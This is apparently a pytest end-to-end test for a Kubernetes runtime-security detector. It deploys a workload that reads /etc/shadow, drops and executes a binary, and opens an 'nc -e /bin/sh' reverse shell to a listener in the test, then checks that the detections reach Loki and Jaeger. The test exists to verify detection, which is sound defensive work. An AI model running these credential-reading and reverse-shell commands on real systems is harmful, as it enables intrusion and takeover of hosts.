"""The whole product installed the way users install it, on the real one-node cluster.

``helm upgrade --install`` of deploy/helm/otelguard into the node that scripts/cluster/up.sh runs
(real kubelet, containerd, runc, kube-proxy, CoreDNS), with the images ``make images`` built
(imported by up.sh; ``imagePullPolicy: Never``). Loki and Jaeger run on this host, bound to the
bridge address pods reach (198.51.100.1). Then a workload Deployment whose container attacks:

- a shell reads ``/etc/shadow``;
- a binary is copied into the container's writable layer and executed (drop and execute);
- a reverse shell, ``nc -e /bin/sh``, to a listener of this test on 198.51.100.1.

Asserted: the agent pod (DaemonSet), the processor and the gateway Collector are Running and
Ready; each attack's detection is queried back from Loki carrying the Kubernetes context that the
real kubelet/containerd gave it (namespace, pod, Deployment, container id, image name); the
detection's trace is in Jaeger. Root, the kernel, the cluster and the images; ~3-5 min.
"""

from __future__ import annotations

import json
import secrets
import socket
import threading
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

from otelguard import semconv as sc
from tests.support import images
from tests.support.helm import CHART, run_helm, require_helm
from tests.support.node import Node, node  # noqa: F401  (node: session fixture)
from tests.support.polling import wait_until
from tests.support.stack import Jaeger, Loki

pytestmark = [pytest.mark.e2e, pytest.mark.cluster, pytest.mark.kernel]

RELEASE = "otelguard"
TESTBOX = "ghcr.io/otelguard/testbox:0.1.0"
RULES = {
    "shadow": "Read sensitive file untrusted",
    "drop": "Drop and execute new binary in container",
    "netcat": "Netcat Remote Code Execution in Container",
}


def label(key: str) -> str:
    """An OTel key as Loki shows it (dots become underscores)."""
    return key.replace(".", "_")


class ReverseShellListener:
    """The attacker's end of ``nc -e``: accepts one connection, sends commands, keeps the output."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.sock.settimeout(600)
        self.port = self.sock.getsockname()[1]
        self.output = b""
        self.done = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
            with conn:
                conn.settimeout(30)
                conn.sendall(b"echo pwned-$(id -u)\nexit\n")
                while chunk := conn.recv(4096):
                    self.output += chunk
        except OSError:
            pass
        finally:
            self.done.set()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def backends(node: Node, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Loki, Jaeger]]:  # noqa: F811
    tmp = tmp_path_factory.mktemp("cluster-backends")
    loki, jaeger = Loki(tmp / "loki", host=node.host_ip), Jaeger(tmp / "jaeger", host=node.host_ip)
    started = []
    try:
        for comp in (loki, jaeger):
            comp.start()
            started.append(comp)
        yield loki, jaeger
    finally:
        for comp in reversed(started):
            comp.stop()


def pods(node: Node, namespace: str, selector: str) -> list[dict[str, Any]]:  # noqa: F811
    out = node.kubectl("-n", namespace, "get", "pods", "-l", selector, "-o", "json").stdout
    return list(json.loads(out)["items"])


def ready(pod: dict[str, Any]) -> bool:
    conditions = pod.get("status", {}).get("conditions") or []
    return pod["status"].get("phase") == "Running" and any(
        c["type"] == "Ready" and c["status"] == "True" for c in conditions)


def describe(node: Node, namespace: str) -> str:  # noqa: F811
    """What a failure message needs: pods, events and the otelguard containers' last logs."""
    parts = [node.kubectl("-n", namespace, "get", "pods", "-o", "wide", check=False).stdout,
             node.kubectl("-n", namespace, "get", "events", "--sort-by=.lastTimestamp",
                          check=False).stdout[-4000:]]
    for component in ("agent", "processor", "collector"):
        parts.append(node.kubectl("-n", namespace, "logs", "--tail=30", "-l",
                                  f"app.kubernetes.io/component={component}", check=False).stdout)
    return "\n".join(parts)


@pytest.fixture(scope="module")
def release(node: Node, backends: tuple[Loki, Jaeger],  # noqa: F811
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The chart installed with values for this node; uninstalled afterwards."""
    require_helm()
    for name in images.IMAGES:
        images.archive(name)  # built by `make images`; up.sh imported them into the node
    loki, jaeger = backends
    tmp = tmp_path_factory.mktemp("helm-release")
    namespace = f"otelguard-{secrets.token_hex(3)}"
    never = {"pullPolicy": "Never"}
    values = {
        "clusterName": "e2e-node",
        "backends": {"loki": {"otlpUrl": loki.otlp_url},
                     "jaeger": {"otlpGrpcEndpoint": jaeger.otlp_grpc, "tls": {"insecure": True}}},
        "agent": {"image": never, "hostKernelHeaders": {"enabled": True},
                  "spool": {"hostPath": str(tmp / "spool")},
                  "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
        "processor": {"image": never, "replicas": 1,
                      "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
        "collector": {"image": never, "replicas": 1,
                      "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
    }
    values_file = tmp / "values.yaml"
    values_file.write_text(yaml.safe_dump(values))
    res = run_helm("upgrade", "--install", RELEASE, str(CHART), "--namespace", namespace,
                   "--create-namespace", "--kubeconfig", str(node.kubeconfig), "--values",
                   str(values_file), "--wait", "--timeout", "600s", timeout=660)
    try:
        assert res.returncode == 0, f"helm install failed:\n{res.stderr}\n{describe(node, namespace)}"
        yield namespace
    finally:
        run_helm("uninstall", RELEASE, "--namespace", namespace, "--kubeconfig",
                 str(node.kubeconfig), "--wait", "--timeout", "180s", timeout=240)
        node.kubectl("delete", "namespace", namespace, "--wait=false", check=False)


def test_agent_processor_and_collector_run_ready_on_the_node(node: Node, release: str) -> None:  # noqa: F811
    for component in ("agent", "processor", "collector"):
        def all_ready() -> bool:
            found = pods(node, release, f"app.kubernetes.io/component={component}")
            return bool(found) and all(ready(p) for p in found)
        assert wait_until(all_ready, 120), f"{component} not Ready:\n{describe(node, release)}"
    (agent,) = pods(node, release, "app.kubernetes.io/component=agent")
    assert agent["spec"]["nodeName"] == node.name
    assert agent["spec"].get("automountServiceAccountToken") is False
    # the agent's own view: probes attached, headers found (doctor in the pod, as docs/install.md says)
    doctor = node.kubectl("-n", release, "exec", agent["metadata"]["name"], "--", "otelguard",
                          "doctor", timeout=300, check=False)
    assert doctor.returncode == 0, doctor.stdout + doctor.stderr
    assert "host-mounted /lib/modules" in doctor.stdout, doctor.stdout


@pytest.fixture(scope="module")
def attack(node: Node, release: str, backends: tuple[Loki, Jaeger]) -> Iterator[dict[str, str]]:  # noqa: F811
    """A Deployment whose pod runs the three attacks once the agent watches; its facts."""
    namespace = f"shop-{secrets.token_hex(3)}"
    listener = ReverseShellListener(node.host_ip)
    # /bin/nc by path: busybox's sh runs a bare applet name as execve("/proc/self/exe"), whose
    # comm is "exe" (Falco sees the same), and the Netcat rule keys on proc.name = nc.
    # /tmp/dropped exits at once ("applet not found"): its upper-layer check must not need it.
    script = ("sleep 2; cat /etc/shadow >/dev/null; "
              "cp /bin/busybox /tmp/dropped && /tmp/dropped true; "
              f"/bin/nc {node.host_ip} {listener.port} -e /bin/sh; "
              "exec sleep 3600")
    deployment = {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "web", "namespace": namespace},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}},
                 "template": {"metadata": {"labels": {"app": "web"}},
                              "spec": {"terminationGracePeriodSeconds": 1,
                                       "containers": [{"name": "main", "image": TESTBOX,
                                                       "imagePullPolicy": "Never",
                                                       "command": ["/bin/sh", "-c", script]}]}}},
    }
    node.kubectl("create", "namespace", namespace)
    try:
        node.kubectl("apply", "-f", "-", input=json.dumps(deployment))
        assert wait_until(lambda: listener.done.is_set(), 180), (
            f"the reverse shell never called back:\n{describe(node, namespace)}")
        (pod,) = pods(node, namespace, "app=web")
        status = pod["status"]["containerStatuses"][0]
        yield {"namespace": namespace, "pod": pod["metadata"]["name"], "uid": pod["metadata"]["uid"],
               "container_id": status["containerID"].split("://", 1)[1],
               "shell_output": listener.output.decode(errors="replace")}
    finally:
        listener.close()
        node.kubectl("delete", "namespace", namespace, "--wait=false", check=False)


def test_the_reverse_shell_really_ran(attack: dict[str, str]) -> None:
    assert "pwned-0" in attack["shell_output"], attack["shell_output"]


@pytest.mark.parametrize("attack_name", sorted(RULES))
def test_detection_in_loki_carries_the_kubelet_context(
        attack_name: str, attack: dict[str, str], backends: tuple[Loki, Jaeger]) -> None:
    loki, jaeger = backends
    rule = RULES[attack_name]
    q = (f'{{k8s_namespace_name="{attack["namespace"]}", otelguard_stream="detection"}}'
         f' | security_rule_name="{rule}"')

    def found() -> list[dict[str, str]]:
        return [s["stream"] for s in loki.query_range(q, since_s=900)["result"] for _ in s["values"]]
    everything = f'{{k8s_namespace_name="{attack["namespace"]}"}}'
    assert wait_until(lambda: len(found()) >= 1, 120), (
        f"no {rule!r} detection in Loki; records there: {loki.query_range(everything, since_s=900)}")
    det = found()[0]
    assert det[label(sc.K8S_NAMESPACE_NAME)] == attack["namespace"]
    assert det[label(sc.K8S_POD_NAME)] == attack["pod"]
    assert det[label(sc.K8S_POD_UID)] == attack["uid"]
    assert det[label(sc.K8S_DEPLOYMENT_NAME)] == "web"
    assert det[label(sc.CONTAINER_ID)] == attack["container_id"]
    assert det[label(sc.CONTAINER_IMAGE_NAME)] in (TESTBOX, TESTBOX.rsplit(":", 1)[0]), det
    assert det[label(sc.K8S_CLUSTER_NAME)] == "e2e-node"
    # the detection's trace: the trigger's process span and the detection span, in Jaeger
    trace_id = det["trace_id"]
    def names() -> set[str]:
        return {sp["name"] for rs in jaeger.trace(trace_id)
                for ss in rs.get("scopeSpans", []) for sp in ss.get("spans", [])}
    assert wait_until(lambda: f"detection {rule}" in names(), 60), names()
    assert any(n.startswith("exec ") for n in names()), names()
